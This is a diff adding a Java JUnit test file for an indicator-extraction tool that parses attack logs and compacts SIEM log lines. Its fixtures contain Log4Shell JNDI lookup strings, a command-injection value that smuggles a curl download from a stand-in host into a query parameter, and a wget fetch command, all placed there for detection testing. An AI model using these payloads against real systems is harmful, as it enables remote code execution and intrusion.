@@ -0,0 +1,70 @@
+import org.junit.jupiter.api.DisplayName;
+import org.junit.jupiter.api.Test;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+class IndicatorExtractorTest {
+
+    private final IndicatorExtractor extractor = new IndicatorExtractor();
+
+    @Test
+    @DisplayName("Extracts IPs, domains, lookups, hashes, CVEs, ports and commands")
+    void extractsIndicators() {
+        String text = """
+                203.0.113.7 - - [18/Oct/2026:10:00:01 +0000] "GET /?q=${jndi:ldap://198.51.100.9:1389/a} HTTP/1.1" 200 1
+                192.0.2.44 - - [18/Oct/2026:10:00:02 +0000] "GET /ping?host=1.1.1.1;curl http://evil.example.org/x.sh HTTP/1.1" 200 1
+                Dropper d41d8cd98f00b204e9800998ecf8427e matches cve-2021-44228, see /static/app.js on port 8443.
+                The shell history shows `wget http://203.0.113.7/p` and $(id) before the callback.
+                """;
+
+        IndicatorExtractor.Indicators indicators = extractor.extract(text);
+
+        assertThat(indicators.ips()).containsExactly("203.0.113.7", "198.51.100.9", "192.0.2.44", "1.1.1.1");
+        assertThat(indicators.domains()).containsExactly("evil.example.org");
+        assertThat(indicators.requests()).containsExactly(
+                "GET /?q=${jndi:ldap://198.51.100.9:1389/a}", "GET /ping?host=1.1.1.1;curl http://evil.example.org/x.sh");
+        // Already part of a listed request
+        assertThat(indicators.lookups()).isEmpty();
+        assertThat(indicators.urls()).isEmpty();
+        assertThat(indicators.hashes()).containsExactly("md5:d41d8cd98f00b204e9800998ecf8427e");
+        assertThat(indicators.cves()).containsExactly("CVE-2021-44228");
+        assertThat(indicators.ports()).containsExactly("1389", "8443");
+        assertThat(indicators.commands()).containsExactly("`wget http://203.0.113.7/p`", "$(id)");
+        assertThat(indicators.attackPatterns()).containsKeys("jndi-lookup", "ldap-url").doesNotContainKey("placeholder");
+    }
+
+    @Test
+    @DisplayName("Compaction replaces log lines by the indicator list and keeps prose")
+    void compactsLogLines() {
+        String background = """
+                Background:
+                The SIEM pre-filter flagged 2 log line(s) from source 203.0.113.7.
+                Sample lines:
+                  203.0.113.7 - - [18/Oct/2026:10:00:01 +0000] "GET /?q=${jndi:ldap://198.51.100.9/a} HTTP/1.1" 200 312 "-" "Mozilla/5.0 (X11; Linux x86_64)"
+                  203.0.113.7 - - [18/Oct/2026:10:00:05 +0000] "GET /?q=${jndi:ldap://198.51.100.9/b} HTTP/1.1" 200 312 "-" "Mozilla/5.0 (X11; Linux x86_64)"
+                """;
+
+        IndicatorExtractor.Compaction compaction = extractor.compact(background);
+
+        assertThat(compaction.removedLines()).isEqualTo(2);
+        assertThat(compaction.text())
+                .contains("The SIEM pre-filter flagged 2 log line(s)")
+                .doesNotContain("Sample lines:", "Mozilla")
+                .contains("- IPs: 203.0.113.7, 198.51.100.9")
+                .doesNotContain("- URLs:", "- Lookups:")
+                .contains("- Requests: GET /?q=${jndi:ldap://198.51.100.9/a}, GET /?q=${jndi:ldap://198.51.100.9/b}")
+                .contains("- Attack patterns: jndi-lookup x2, ldap-url x2");
+        assertThat(compaction.text().length()).isLessThan(background.length());
+    }
+
+    @Test
+    @DisplayName("A narrative background without log lines is left unchanged")
+    void keepsNarrative() {
+        String background = "Unauthorized LDAP lookups originate from the web server when input contains '${'.\n";
+
+        IndicatorExtractor.Compaction compaction = extractor.compact(background);
+
+        assertThat(compaction.text()).isEqualTo(background);
+        assertThat(compaction.removedLines()).isZero();
+    }
+}